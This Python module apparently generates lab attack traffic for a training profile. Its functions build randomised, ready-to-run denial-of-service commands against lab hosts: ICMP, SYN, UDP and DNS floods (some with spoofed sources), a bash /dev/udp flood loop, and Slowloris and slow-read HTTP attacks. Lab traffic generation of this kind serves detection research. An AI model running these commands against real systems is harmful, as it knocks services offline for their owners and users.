"""More modes of the floods and of slow HTTP for the training profile: other tools, rates, ports, sizes, flags and sources."""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode

RAW = "python3 -E {here}/tools/rawflood.py"
HOLD = "python3 -E {here}/tools/slowhold.py"

# Denial of service: ICMP, SYN, UDP


@mode("ICMP Flood", varied=True)
def icmp_raw(f: Field) -> Run:
    v, rate = f.at(f.server), f.rng.choice([150, 600, 1200])
    return (
        "rawflood.py icmp",
        f"{RAW} icmp {v} --sources {f.at('att')} --type {f.rng.choice([8, 8, 13, 15])} --sizes {f.rng.choice(['0', '56', '0-600', '1000-1200'])} --rate {rate} --count {f.count(7, rate)}",
        [v],
        12,
    )


@mode("ICMP Flood", spoofed=True, varied=True)
def icmp_raw_spoofed(f: Field) -> Run:
    v, rate = f.at(f.server), f.rng.choice([200, 800])
    return (
        "rawflood.py icmp, random sources",
        f"{RAW} icmp {v} --sources random --type {f.rng.choice([0, 3, 8, 11])} --sizes 0-{f.rng.choice([8, 300])} --rate {rate} --count {f.count(7, rate)} --random-gaps",
        [v],
        12,
    )


@mode("ICMP Flood", varied=True)
def icmp_hping_types(f: Field) -> Run:
    """Messages nobody answers: timestamp, address mask, unreachable."""
    v, pause, kind = f.at(f.server), f.rng.choice([800, 2500]), f.rng.choice([3, 13, 17])
    return f"hping3 -1 -C {kind}", f"hping3 -q -1 -C {kind} -i u{pause} -c {f.count(7, 1e6 / pause)} {v}", [v], 11


@mode("ICMP Flood", varied=True)
def icmp_hping_parts(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([3000, 8000])
    return (
        "hping3 -1, fragments",
        f"hping3 -q -1 -i u{pause} -c {f.count(7, 1e6 / pause)} -d {f.rng.choice([2500, 4000, 6000])} {v}",
        [v],
        11,
    )


@mode("ICMP Flood", varied=True)
def icmp_ping_slow(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "ping -i 0.02",
        f"ping -n -q -i 0.0{f.rng.choice([1, 2, 4])} -w 12 -s {f.rng.choice([8, 200, 1000])} -p {f.rng.randrange(256):02x} {v}",
        [v],
        15,
    )


@mode("SYN Flood", varied=True)
def syn_raw(f: Field) -> Run:
    rate = f.rng.choice([100, 400, 1000])
    look = f"--options {f.rng.choice(['none', 'mss', 'linux', 'windows'])} --window {f.rng.choice([0, 1024, 29200, 65535])}"
    return (
        "rawflood.py syn",
        f"{RAW} syn {f.at('web')} --sources {f.at('att')} --ports {f.web_port} {look} --rate {rate} --count {f.count(8, rate)}",
        [f.at("web")],
        13,
    )


@mode("SYN Flood", spoofed=True, varied=True)
def syn_raw_spoofed(f: Field) -> Run:
    host, rate = f.server, f.rng.choice([200, 900])
    return (
        "rawflood.py syn, random sources",
        f"{RAW} syn {f.at(host)} --sources random --ports {f.ports(host)[0]} --options {f.rng.choice(['linux', 'windows'])} --rate {rate} --count {f.count(7, rate)} --random-gaps",
        [f.at(host)],
        12,
    )


@mode("SYN Flood", varied=True)
def syn_raw_ports(f: Field) -> Run:
    """SYNs to many ports at once, open and closed, more than once each."""
    host, rate = f.server, f.rng.choice([300, 800])
    ports = ",".join(map(str, [*f.ports(host), *f.rng.sample(range(1024, 60000), 3)]))
    return (
        "rawflood.py syn, several ports",
        f"{RAW} syn {f.at(host)} --sources {f.at('att')} --ports {ports} --rate {rate} --count {f.count(7, rate)}",
        [f.at(host)],
        12,
    )


@mode("SYN Flood", varied=True)
def syn_hping_data(f: Field) -> Run:
    host, pause = f.rng.choice(["web", "files"]), f.rng.choice([700, 2000, 6000])
    return (
        "hping3 -S -d",
        f"hping3 -q -S -s {f.rng.randint(1024, 60000)} -k -p {f.ports(host)[0]} -i u{pause} -c {f.count(8, 1e6 / pause)} -d {f.rng.choice([60, 400, 1000])} -w {f.rng.choice([64, 8192])} {f.at(host)}",
        [f.at(host)],
        12,
    )


@mode("SYN Flood", varied=True)
def syn_nping_slow(f: Field) -> Run:
    rate = f.rng.choice([40, 100])
    return (
        "nping --tcp, low rate",
        f"nping -q -N --tcp --flags syn -p {f.web_port} --ttl {f.rng.randint(40, 200)} --rate {rate} -c {f.count(12, rate)} {f.at('web')}",
        [f.at("web")],
        15,
    )


@mode("UDP Flood", varied=True)
def udp_raw(f: Field) -> Run:
    v, rate = f.at(f.server), f.rng.choice([150, 600, 1200])
    ports = f.rng.choice(["53", "123", "1-65000", str(f.rng.randint(1024, 65000))])
    return (
        "rawflood.py udp",
        f"{RAW} udp {v} --sources {f.at('att')} --ports {ports} --sizes {f.rng.choice(['1', '0-1200', '512', '1000-1200'])} --rate {rate} --count {f.count(7, rate)}",
        [v],
        12,
    )


@mode("UDP Flood", spoofed=True, varied=True)
def udp_raw_spoofed(f: Field) -> Run:
    v, rate = f.at(f.server), f.rng.choice([200, 800])
    return (
        "rawflood.py udp, random sources",
        f"{RAW} udp {v} --sources random --ports {f.rng.choice(['80', '443', '1-65000'])} --sizes 0-{f.rng.choice([20, 900])} --rate {rate} --count {f.count(7, rate)} --random-gaps",
        [v],
        12,
    )


@mode("UDP Flood", varied=True)
def udp_hping_parts(f: Field) -> Run:
    v, pause = f.at(f.server), f.rng.choice([4000, 9000])
    return (
        "hping3 -2, fragments",
        f"hping3 -q -2 -p {f.rng.randint(1, 60000)} -i u{pause} -c {f.count(7, 1e6 / pause)} -d {f.rng.choice([2200, 4000])} {v}",
        [v],
        11,
    )


@mode("UDP Flood", varied=True)
def udp_shell(f: Field) -> Run:
    """bash writes to /dev/udp: the kernel's own ports, TTL and checksums."""
    v, size = f.at(f.server), f.rng.choice([10, 300, 1000])
    return (
        "bash /dev/udp",
        f'timeout 7 bash -c \'d=$(head -c {size} /dev/zero | tr "\\0" x); exec 3>/dev/udp/{v}/{f.rng.randint(1, 60000)}; while :; do printf %s "$d" >&3; sleep 0.00{f.rng.choice([1, 3])}; done\'',
        [v],
        10,
    )


@mode("UDP Flood", varied=True)
def udp_bursts(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "rawflood.py udp, bursts",
        f"{RAW} udp {v} --sources {f.at('att')} --ports {f.rng.randint(1000, 60000)} --sizes 100-900 --rate {f.rng.choice([1500, 3000])} --count 4000 --bursts {f.rng.choice([4, 8])}",
        [v],
        14,
    )


# Denial of service: DNS


@mode("DNS Flood", varied=True)
def dns_raw(f: Field) -> Run:
    rate, v = f.rng.choice([150, 500, 1000]), f.at("infra")
    return (
        "rawflood.py dns",
        f"{RAW} dns {v} --sources {f.at('att')} --ports 53 --zone {f.rng.choice([*f.capture.zones, 'lab.test'])} --type {f.rng.choice([1, 16, 28, 255])} --rate {rate} --count {f.count(7, rate)}",
        [v],
        12,
    )


@mode("DNS Flood", spoofed=True, varied=True)
def dns_raw_spoofed(f: Field) -> Run:
    rate, v = f.rng.choice([200, 700]), f.at("infra")
    return (
        "rawflood.py dns, random sources",
        f"{RAW} dns {v} --sources random --ports 53 --zone {f.capture.zones[1]} --type {f.rng.choice([1, 255])} --rate {rate} --count {f.count(7, rate)} --random-gaps",
        [v],
        12,
    )


@mode("DNS Flood", varied=True)
def dns_perf_tcp(f: Field) -> Run:
    names, v = [f"n{f.rng.randrange(16**6):06x}.{f.rng.choice(f.capture.zones)} A" for _ in range(1000)], f.at("infra")
    return (
        "dnsperf -m tcp",
        f"dnsperf -m tcp -s {v} -d {f.list('names', names)} -Q {f.rng.choice([150, 500])} -l 6 -c {f.rng.choice([1, 10, 40])}",
        [v],
        12,
    )


@mode("DNS Flood", varied=True)
def dns_perf_one(f: Field) -> Run:
    """The same few names of any type again and again, as an amplifier is asked."""
    names, v = [f"{zone} ANY" for zone in f.capture.zones] + ["lab.test TXT"], f.at("infra")
    return (
        "dnsperf, few names",
        f"dnsperf -s {v} -d {f.list('names', names)} -Q {f.rng.choice([100, 400])} -l {f.rng.randint(6, 10)} -e -c {f.rng.choice([1, 5])}",
        [v],
        15,
    )


@mode("DNS Flood", varied=True)
def dns_host(f: Field) -> Run:
    """`host` for each name: every query from a process of its own."""
    names, v = [f"r{f.rng.randrange(16**8):08x}.{f.rng.choice(f.capture.zones)}" for _ in range(1200)], f.at("infra")
    return (
        "host loop",
        f"timeout 9 xargs -a {f.list('names', names)} -P {f.rng.choice([6, 14])} -I % host -W 1 -t {f.rng.choice(['A', 'MX', 'ANY'])} % {v}",
        [v],
        12,
    )


# Denial of service: slow HTTP


@mode("Slowloris", varied=True)
def slow_hold_few(f: Field) -> Run:
    return (
        "slowhold.py headers, few",
        f"{HOLD} headers {f.at('web')} {f.web_port} --sockets {f.rng.randint(12, 40)} --pause {f.rng.choice([0.5, 1, 4])} --seconds 18",
        [f.at("web")],
        22,
    )


@mode("Slowloris", varied=True)
def slow_hold_many(f: Field) -> Run:
    return (
        "slowhold.py headers, many",
        f"{HOLD} headers {f.at('web')} {f.web_port} --sockets {f.rng.randint(300, 600)} --spread {f.rng.choice([1, 8])} --pause {f.rng.choice([2, 5])} --seconds 16",
        [f.at("web")],
        20,
    )


@mode("Slowloris", varied=True)
def slow_hold_tls(f: Field) -> Run:
    return (
        "slowhold.py, TLS",
        f"{HOLD} {f.rng.choice(['headers', 'body'])} {f.at('web')} 443 --tls --path /app/upload --sockets {f.rng.randint(30, 120)} --pause {f.rng.choice([1, 3])} --seconds 16",
        [f.at("web")],
        20,
    )


@mode("Slowloris", varied=True)
def slow_hold_body(f: Field) -> Run:
    return (
        "slowhold.py body",
        f"{HOLD} body {f.at('web')} {f.web_port} --path /app/login --sockets {f.rng.randint(40, 250)} --pause {f.rng.choice([0.5, 2, 5])} --seconds 16",
        [f.at("web")],
        20,
    )


@mode("Slowloris", varied=True)
def slow_hold_read(f: Field) -> Run:
    return (
        "slowhold.py read",
        f"{HOLD} read {f.at('web')} {f.web_port} --path /big.bin --sockets {f.rng.randint(40, 150)} --buffer {f.rng.choice([128, 512, 2048])} --pause {f.rng.choice([0.4, 1, 3])} --seconds 16",
        [f.at("web")],
        20,
    )


@mode("Slowloris", varied=True)
def slow_test_body(f: Field) -> Run:
    return (
        "slowhttptest -B, TLS",
        f"slowhttptest -B -c {f.rng.randint(40, 200)} -r {f.rng.choice([10, 100])} -i {f.rng.choice([1, 5])} -s {f.rng.choice([2048, 65536])} -x {f.rng.choice([4, 32])} -l 16 -u https://{f.at('web')}/app/upload -p 3",
        [f.at("web")],
        20,
    )
